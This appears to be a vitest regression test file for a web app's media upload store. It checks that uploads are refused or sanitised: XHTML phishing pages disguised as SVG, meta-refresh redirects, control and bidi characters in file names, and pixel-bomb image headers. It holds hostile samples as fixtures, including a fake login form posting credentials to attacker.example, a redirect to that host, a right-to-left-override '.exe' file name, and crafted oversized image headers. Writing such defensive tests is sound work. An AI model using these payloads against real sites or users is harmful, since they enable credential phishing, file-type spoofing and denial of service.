/**
 * Regression tests for the penetration-test findings on the media store (decision 0007):
 * XHTML "SVG" phishing pages, files left behind by failed uploads, and pixel bombs.
 */
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { count, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makePng } from '../../test/fixtures';
import { createTestApp, signIn, signedInTestApp, type TestApp } from '../../test/test-app';
import { mediaAssets } from '../../db/schema';
import { seedMediaFolder } from '../../paths';
import { MAX_SVG_DEPTH, inspectSvg } from './svg-check';

const MEDIA_CSP =
  "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; media-src 'self'; form-action 'none'; frame-ancestors 'none'; sandbox";

/** The finding's file: an XHTML page wearing an <svg> root, posting a password elsewhere. */
const XHTML_PHISHING_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/1999/xhtml">
  <form action="https://attacker.example/collect" method="post">
    <p>Your session expired. Sign in again.</p>
    <input name="email"/><input type="password" name="password"/>
    <button>Sign in</button>
  </form>
</svg>`;

/** A real SVG root hiding an XHTML meta refresh that redirects the visitor away. */
const META_REFRESH_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" width="10" height="10">
  <h:meta http-equiv="refresh" content="0;url=https://attacker.example/"/>
  <rect width="10" height="10"/>
</svg>`;

function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const byte of bytes) {
    c ^= byte;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}

/** A PNG of a few dozen bytes whose header declares width x height pixels. */
function pngHeader(width: number, height: number): Uint8Array<ArrayBuffer> {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 6;
  const body = Buffer.concat([Buffer.from('IHDR', 'ascii'), ihdr]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(13);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  const iend = Buffer.from([0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(Buffer.concat([signature, length, body, crc, iend]));
}

/** A GIF logical screen of width x height (at most 65535 each). */
function gifHeader(width: number, height: number): Uint8Array<ArrayBuffer> {
  const bytes = Buffer.alloc(14);
  bytes.write('GIF89a', 0, 'ascii');
  bytes.writeUInt16LE(width, 6);
  bytes.writeUInt16LE(height, 8);
  bytes[13] = 0x3b; // trailer
  return new Uint8Array(bytes);
}

/** An extended (VP8X) WebP whose canvas is width x height (at most 16384 each). */
function webpHeader(width: number, height: number): Uint8Array<ArrayBuffer> {
  const chunk = Buffer.alloc(10);
  chunk.writeUIntLE(width - 1, 4, 3);
  chunk.writeUIntLE(height - 1, 7, 3);
  const vp8x = Buffer.concat([Buffer.from('VP8X', 'ascii'), Buffer.from([10, 0, 0, 0]), chunk]);
  const riffSize = Buffer.alloc(4);
  riffSize.writeUInt32LE(4 + vp8x.length);
  return new Uint8Array(
    Buffer.concat([Buffer.from('RIFF', 'ascii'), riffSize, Buffer.from('WEBP', 'ascii'), vp8x]),
  );
}

async function filesUnder(folder: string): Promise<string[]> {
  if (!existsSync(folder)) return [];
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => entry.name);
}

async function upload(
  app: TestApp['app'],
  token: string,
  bytes: Uint8Array<ArrayBuffer> | string,
  name: string,
  alt?: string,
) {
  const form = new FormData();
  form.append('file', new File([bytes], name, { type: 'application/octet-stream' }));
  if (alt !== undefined) form.append('alt', alt);
  const response = await app.fetch(
    new Request('http://localhost:4000/media', {
      method: 'POST',
      body: form,
      headers: { authorization: `Bearer ${token}` },
    }),
  );
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  return { status: response.status, body: (await response.json()) as Record<string, any> };
}

describe('media store attacks', () => {
  const t = signedInTestApp();
  const mediaDir = () => join(t.dataDir, 'media');
  const send = (bytes: Uint8Array<ArrayBuffer> | string, name: string, alt?: string) =>
    upload(t.app, t.token, bytes, name, alt);
  const assetCount = async () => {
    const [row] = await t.database.db.select({ value: count() }).from(mediaAssets);
    return Number(row?.value);
  };

  it('refuses an XHTML phishing page disguised as SVG, storing nothing', async () => {
    const result = await send(XHTML_PHISHING_SVG, 'login.svg');
    expect(result.status).toBe(415);
    expect(result.body.errors[0].message).toBe(
      'This SVG file is not allowed: its root <svg> element is not in the SVG namespace (it needs xmlns="http://www.w3.org/2000/svg").',
    );
    expect(await filesUnder(mediaDir())).toEqual([]);
  });

  it('refuses an XHTML meta refresh inside an SVG', async () => {
    const result = await send(META_REFRESH_SVG, 'redirect.svg');
    expect(result.status).toBe(415);
    expect(result.body.errors[0].message).toBe(
      'This SVG file is not allowed: it contains an element outside the SVG namespace (<h:meta> in http://www.w3.org/1999/xhtml); only plain SVG is accepted.',
    );
    expect(await filesUnder(mediaDir())).toEqual([]);
  });

  it('stores and serves the sanitised rewrite of an SVG, not the upload', async () => {
    const exported = `<?xml version="1.0"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 20 10">
  <defs><circle id="dot" r="2"/></defs>
  <g inkscape:label="Layer 1"><rect width="20" height="10" fill="#0b3d3a"/></g>
  <use href="#dot" x="5" y="5"/>
</svg>`;
    const result = await send(exported, 'exported.svg');
    expect(result.status).toBe(201);
    expect(result.body.asset).toMatchObject({ width: 20, height: 10 });
    const served = await t.app.fetch(new Request(`http://localhost:4000${result.body.asset.url}`));
    const text = await served.text();
    expect(text).toContain('<rect width="20" height="10" fill="#0b3d3a"/>');
    expect(text).not.toContain('<use');
    expect(text).not.toContain('inkscape:label');
    expect(text).not.toContain('DOCTYPE');
    expect(result.body.asset.size_bytes).toBe(Buffer.byteLength(text));
    expect(served.headers.get('content-security-policy')).toBe(MEDIA_CSP);
  });

  it('serves every media file, not only SVG, with a CSP that forbids forms and sandboxes it', async () => {
    const result = await send(makePng(2, 2), 'plain.png');
    expect(result.status).toBe(201);
    const served = await t.app.fetch(new Request(`http://localhost:4000${result.body.asset.url}`));
    expect(served.status).toBe(200);
    const csp = served.headers.get('content-security-policy') ?? '';
    expect(csp).toBe(MEDIA_CSP);
    expect(csp.split(/;\s*/)).toEqual(expect.arrayContaining(["form-action 'none'", 'sandbox']));
  });

  it('refuses NUL and other control characters in the file name and alt text, leaving no file', async () => {
    const before = await assetCount();
    const nul = await send(makePng(3, 3), 'photo\u0000.png');
    expect(nul.status).toBe(400);
    expect(nul.body.errors[0]).toEqual({
      message: 'The file name cannot contain control characters (such as NUL or line breaks)',
      extensions: { category: 'graphql-input' },
    });
    const escape = await send(makePng(3, 3), 'photo\u001b[31m.png');
    expect(escape.status).toBe(400);
    const bidi = await send(makePng(3, 3), 'invoice\u202egnp.exe');
    expect(bidi.status).toBe(400);
    const alt = await send(makePng(3, 3), 'photo.png', 'nice\u0000photo');
    expect(alt.status).toBe(400);
    expect(alt.body.errors[0].message).toBe(
      'Alt text cannot contain control characters (such as NUL or line breaks)',
    );
    const long = await send(makePng(3, 3), `${'a'.repeat(256)}.png`);
    expect(long.status).toBe(400);
    expect(long.body.errors[0].message).toBe('The file name takes at most 255 characters');
    expect(await assetCount()).toBe(before);
    const stored = await filesUnder(mediaDir());
    expect(stored.filter((name) => name.startsWith('photo') || name.startsWith('invoice'))).toEqual(
      [],
    );
  });

  it('leaves no file when the database refuses the row, and no row when the file cannot be written', async () => {
    const { db } = t.database;
    const before = await filesUnder(mediaDir());
    const count = await assetCount();
    await db.execute(sql`
      create function refuse_media_insert() returns trigger language plpgsql as $$
      begin raise exception 'database unavailable'; end $$`);
    await db.execute(sql`
      create trigger refuse_media_insert before insert on media_assets
      for each row execute function refuse_media_insert()`);
    try {
      const failed = await send(makePng(6, 6), 'db-down.png');
      expect(failed.status).toBe(500);
    } finally {
      await db.execute(sql`drop trigger refuse_media_insert on media_assets`);
      await db.execute(sql`drop function refuse_media_insert()`);
    }
    expect(await filesUnder(mediaDir())).toEqual(before);
    expect(await assetCount()).toBe(count);

    // In a new year whose folder is a file, the write fails after the insert: the row goes too.
    const now = t.clock.now();
    t.clock.set('2031-01-01T00:00:00.000Z');
    try {
      mkdirSync(mediaDir(), { recursive: true });
      writeFileSync(join(mediaDir(), '2031'), 'not a folder');
      const token = await signIn(t.app);
      const failed = await upload(t.app, token, makePng(7, 7), 'disk-full.png');
      expect(failed.status).toBe(500);
      expect(await assetCount()).toBe(count);
      expect((await filesUnder(mediaDir())).filter((name) => name.includes('disk-full'))).toEqual(
        [],
      );
    } finally {
      t.clock.set(now);
    }
  });
});

describe('image pixel limits', () => {
  const t = signedInTestApp();
  const send = (bytes: Uint8Array<ArrayBuffer> | string, name: string) =>
    upload(t.app, t.token, bytes, name);
  const LIMIT = 'the limit is 10000 pixels per side and 40 megapixels in total.';

  it('refuses PNG, GIF and WebP headers declaring huge dimensions, naming the limit', async () => {
    const png = await send(pngHeader(100_000, 100_000), 'bomb.png');
    expect(png.status).toBe(400);
    expect(png.body.errors[0].message).toBe(`This image is 100000 x 100000 pixels; ${LIMIT}`);
    const gif = await send(gifHeader(65_535, 65_535), 'bomb.gif');
    expect(gif.status).toBe(400);
    expect(gif.body.errors[0].message).toBe(`This image is 65535 x 65535 pixels; ${LIMIT}`);
    const webp = await send(webpHeader(16_384, 16_384), 'bomb.webp');
    expect(webp.status).toBe(400);
    expect(webp.body.errors[0].message).toBe(`This image is 16384 x 16384 pixels; ${LIMIT}`);
    // Within each side but over the total: 9000 x 9000 is 81 megapixels.
    const square = await send(pngHeader(9_000, 9_000), 'square.png');
    expect(square.body.errors[0].message).toBe(`This image is 9000 x 9000 pixels; ${LIMIT}`);
    expect(
      (await t.asEditor(`{ mediaAssets { total_count } }`)).data?.mediaAssets.total_count,
    ).toBe(0);
  });

  it('accepts a header within the limits', async () => {
    const result = await send(gifHeader(8_000, 5_000), 'wide.gif');
    expect(result.status).toBe(201);
    expect(result.body.asset).toMatchObject({ width: 8000, height: 5000 });
  });

  it('refuses an SVG declaring a huge intrinsic size', async () => {
    const result = await send(
      '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><rect width="1" height="1"/></svg>',
      'huge.svg',
    );
    expect(result.status).toBe(400);
    expect(result.body.errors[0].message).toBe(`This image is 100000 x 100000 pixels; ${LIMIT}`);
  });
});

describe('image pixel limit from the configuration', () => {
  const t = signedInTestApp({ config: { maxImagePixels: 1_000_000 } });

  it('uses MEDIA_MAX_IMAGE_PIXELS', async () => {
    const result = await upload(t.app, t.token, gifHeader(2_000, 1_000), 'two-mp.gif');
    expect(result.status).toBe(400);
    expect(result.body.errors[0].message).toBe(
      'This image is 2000 x 1000 pixels; the limit is 10000 pixels per side and 1 megapixels in total.',
    );
  });
});

describe('seeded media', () => {
  let seeded: TestApp;
  beforeAll(async () => {
    seeded = await createTestApp({ seedMediaFolder });
  });
  afterAll(() => seeded.close());

  it('registers every shipped SVG through the same checks and sanitising', async () => {
    const svgs = readdirSync(seedMediaFolder).filter((name) => name.endsWith('.svg'));
    expect(svgs.length).toBeGreaterThan(0);
    expect(seeded.logger.entries.filter((entry) => entry.level === 'warn')).toEqual([]);
    for (const name of svgs) {
      const served = await seeded.app.fetch(new Request(`http://localhost:4000/media/${name}`));
      expect(served.status, name).toBe(200);
      expect(await served.text(), name).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    }
  });
});

describe('SVG bounds', () => {
  it('refuses nesting deeper than the limit and SVG without the SVG namespace', () => {
    const deep = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(MAX_SVG_DEPTH)}${'</g>'.repeat(MAX_SVG_DEPTH)}</svg>`;
    expect(inspectSvg(deep)).toEqual({
      ok: false,
      reason: `it nests elements more than ${MAX_SVG_DEPTH} levels deep`,
    });
    expect(inspectSvg('<svg width="10" height="10"/>')).toMatchObject({ ok: false });
  });
});
